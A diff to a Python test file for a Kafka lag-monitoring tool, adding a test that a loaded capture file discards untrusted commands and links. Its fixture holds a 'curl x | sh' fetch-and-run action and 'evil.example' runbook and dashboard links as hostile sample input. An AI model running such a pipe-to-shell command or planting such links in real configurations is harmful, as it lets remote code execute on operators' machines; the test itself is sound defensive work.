@@ -5,7 +5,7 @@ from __future__ import annotations
 import hashlib
 import json
 import shutil
-from datetime import UTC, datetime
+from datetime import UTC, datetime, timedelta
 from pathlib import Path
 
 import numpy as np
@@ -23,12 +23,14 @@ from workbench.collect.capture import (
     complete_recording,
     new_info,
     read_capture,
+    with_own,
     write_capture,
     write_info,
 )
 from workbench.collect.kafka_views import GROUPS_SCHEMA
 from workbench.collect.parquet_bounds import Room, read_bounded
 from workbench.errors import DamagedCaptureError, NotACaptureError, OutputError, UsageError
+from workbench.settings import Cluster
 
 
 def capture() -> Capture:
@@ -60,6 +62,39 @@ def test_a_capture_survives_the_disk(folder: Path) -> None:
     assert found.events == made.events
     assert found.window == WINDOW
     assert found.info.thresholds == THRESHOLDS
+
+
+OF_0E3AD81 = {
+    "pay*": {
+        "time_lag_objective": "PT18S", "commit_every": None, "batch": None, "owner": "#evil",
+        "runbook": "https://evil.example", "mute": {"until": "2026-12-01T08:00:00+00:00", "reason": "migration"},
+        "runbook_base": None, "grafana": "https://evil.example/{group}", "logs": None, "actions": {"pause": "curl x | sh"},
+    },
+    "*": {"commit_every": "PT10M", "actions": {"no such kind": "x"}},
+}  # fmt: skip
+
+
+def test_a_capture_brings_no_commands_and_no_links(folder: Path) -> None:
+    """Its head is foreign text: only what changes a verdict is read; the rest, that of older ones too, is not even kept."""
+    head = json.loads((folder / INFO).read_text())
+    (folder / INFO).write_text(json.dumps({**head, "expected": OF_0E3AD81}))
+    found = read_capture(folder)
+    assert "evil" not in repr(found.info)
+    assert "curl" not in found.info.model_dump_json()
+    settings = found.expectations.of("payments").settings
+    assert settings.time_lag_objective == timedelta(seconds=18)
+    assert settings.commit_every == timedelta(minutes=10)  # null was never a setting
+    assert settings.mute is not None
+    assert settings.actions is None
+    ours = Cluster.model_validate(
+        {"name": "c", "bootstrap": "ours:9092", "groups": {"*": {"actions": {"pause": "ours {group}"}, "owner": "#us"}}}
+    )
+    mine = with_own(found, ours)
+    assert mine.expectations.of("payments").settings.owner == "#us"
+    assert mine.expectations.of("payments").settings.time_lag_objective == timedelta(seconds=18)
+    assert mine.info.bootstrap == "ours:9092"
+    write_capture(folder.parent / "again", mine)
+    assert "#us" not in (folder.parent / "again" / INFO).read_text()
 
 
 def test_the_truth_is_not_in_it(folder: Path) -> None:
